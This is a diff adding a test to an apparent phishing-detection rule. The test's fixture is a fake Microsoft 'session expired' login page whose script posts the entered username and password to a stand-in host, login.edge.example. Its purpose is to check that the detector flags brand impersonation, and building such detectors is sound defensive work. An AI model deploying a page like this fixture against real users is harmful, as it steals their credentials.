@@ -114,3 +114,9 @@ test('a login that is taken for the one of a service by its fields, or by where 
   assert.deepEqual(told(PLAIN, ".then(() => { location.href = 'https://github.com/login/oauth/authorize?client_id=1' })"), []);
   assert.deepEqual(told('<input name="loginfmt"><input name="code">', ''), []);
 });
+
+test('a page that is headed by a service alone, whose session is said to have ended, asks for its password', () => {
+  const told = (head: string) => findingsOf(dataLeak, { 'index.html': `<!doctype html><html><body>${head}<form id="f"><input name="user"><input type="password" name="word"><button>Go on</button></form><script>document.getElementById('f').onsubmit = function (e) { e.preventDefault(); fetch('https://login.edge.example/next', { method: 'POST', body: new FormData(e.target) }) }</script></body></html>` }).filter(({ message }) => message.startsWith('a page asks for the password')).length;
+  assert.equal(told('<h3>Microsoft</h3><p>Your session has expired. Sign in again to go on.</p>'), 1);
+  assert.equal(told('<h3>Edge tools</h3><p>Your session has expired. Sign in again to go on.</p><p>Works with Microsoft</p>'), 0);
+});
